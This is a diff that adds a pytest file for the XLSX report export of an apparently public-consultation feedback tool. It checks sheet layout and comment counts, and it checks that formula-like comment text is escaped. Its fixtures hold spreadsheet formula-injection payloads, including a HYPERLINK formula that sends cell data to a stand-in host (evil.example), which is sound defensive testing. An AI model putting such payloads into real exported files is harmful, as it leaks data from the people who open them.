@@ -1,0 +1,112 @@
+"""The XLSX workbook: sheets, frozen headers, counts, and comment text that cannot run as a formula."""
+from __future__ import annotations
+
+import io
+import zipfile
+from dataclasses import replace
+from datetime import datetime
+
+import pytest
+from openpyxl import load_workbook
+
+from westlake_feedback.exports_safety import FORMULA_TRIGGERS
+from westlake_feedback.reports.data import ClauseInfo, compute
+from westlake_feedback.reports.xlsx_writer import SHEETS, build_xlsx
+
+MALICIOUS = {
+    "R0000": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
+    "R0001": "＝1+1",
+    "R0002": "@SUM(1)",
+    "R0003": "\t=1",
+    "R0010": "+1+2",
+    "R0011": "-2+3",
+}
+
+
+@pytest.fixture(scope="module")
+def workbook_bytes(sample_stats, sample_input):
+    return build_xlsx(sample_stats, sample_input)
+
+
+@pytest.fixture(scope="module")
+def workbook(workbook_bytes):
+    return load_workbook(io.BytesIO(workbook_bytes))
+
+
+def rows(ws):
+    return [list(r) for r in ws.iter_rows(min_row=2, values_only=True)]
+
+
+def test_sheets_frozen_headers_and_widths(workbook):
+    assert workbook.sheetnames == list(SHEETS)
+    for ws in workbook.worksheets:
+        assert ws.freeze_panes == "A2", ws.title
+        assert ws["A1"].font.b, ws.title
+        assert ws.column_dimensions["A"].customWidth and ws.column_dimensions["B"].width >= 8, ws.title
+        assert ws.print_title_rows.replace("$", "") == "1:1", ws.title
+    assert workbook["意见采纳情况"]["C2"].alignment.wrap_text
+
+
+def test_counts(workbook):
+    summary = {(r[0], r[1]): r[2] for r in rows(workbook["概况"])}
+    assert summary[("总体", "收到意见")] == 42
+    assert summary[("总体", "计入统计的意见")] == 40
+    assert summary[("总体", "参与人数")] == 32
+    assert summary[("提交渠道", "网上提交")] == 25
+    assert summary[("审核结果", "垃圾信息")] == 2
+    assert summary[("答复情况", "尚未答复")] == 24
+    assert summary[("基本信息", "报告版本")] == 2
+    per_day = rows(workbook["每日提交"])
+    assert [(d.day, n) for d, n in per_day] == [(15, 5), (16, 9), (17, 0), (18, 7), (19, 0), (20, 10), (21, 7), (22, 2)]
+    assert isinstance(per_day[0][0], datetime)
+    clauses = rows(workbook["条款意见数"])
+    assert [(r[0], r[3], r[4]) for r in clauses] == [
+        (None, 4, None), (1, 10, 1), (2, 3, 5), (3, 8, 3), (4, 0, None), (5, 6, 4), (6, 9, 2)]
+    stance = rows(workbook["条款意见倾向"])
+    assert stance[-1] == ["合计", 15, 7, 12, 6, 40]
+    header = [c.value for c in workbook["意见采纳情况"][1]]
+    assert header[:5] == ["序号", "条款", "意见摘要", "是否采纳", "理由"]
+    adoption = rows(workbook["意见采纳情况"])
+    assert len(adoption) == 16 and adoption[0][:5] == [1, "总体意见", "整体赞成，文件的执行力度很关键。", "采纳", "答复0"]
+    keywords = rows(workbook["关键词"])
+    assert keywords[0] == ["全部意见", 1, "停车位", 26]
+    assert ["一、扩大有效投资政策", 1, "停车位", 26] in keywords
+    assert rows(workbook["条款综合答复"])[0] == ["总体意见", "总体意见已逐条研究。"]
+
+
+def test_formula_like_text_is_stored_as_text(input_factory):
+    base = input_factory()
+    hostile_clause = ClauseInfo(2, "=2.", "=HYPERLINK(\"http://evil.example\")", 1)
+    comments = [
+        replace(c, body=MALICIOUS.get(c.receipt_code, c.body),
+                response=MALICIOUS.get(c.receipt_code, c.response),
+                name_public="@admin" if c.name_public else None)
+        for c in base.comments
+    ]
+    report_input = input_factory(title="=1+1 征求意见稿", issuer="@SUM(1)", comments=comments,
+                                 clauses=[c if c.number != 2 else hostile_clause for c in base.clauses])
+    data = build_xlsx(compute(report_input), report_input)
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
+
+    workbook = load_workbook(io.BytesIO(data))
+    seen = set()
+    for ws in workbook.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.value[:1] not in FORMULA_TRIGGERS, (ws.title, cell.coordinate, cell.value)
+                    seen.add(cell.value)
+    adoption = rows(workbook["意见采纳情况"])
+    assert adoption[0][2] == "'" + MALICIOUS["R0000"] and adoption[0][4] == "'" + MALICIOUS["R0000"]
+    assert adoption[1][2] == "'＝1+1"
+    assert adoption[2][2] == "'@SUM(1)"
+    assert adoption[3][4] == "'\t=1"          # the response keeps its tab; the summary folds it to "=1"
+    assert adoption[3][2] == "'=1"
+    assert adoption[0][6] == "'@admin"
+    assert "'=2.=HYPERLINK(\"http://evil.example\")" in seen
+    assert "'@SUM(1)" in seen and "'=1+1 征求意见稿" in seen
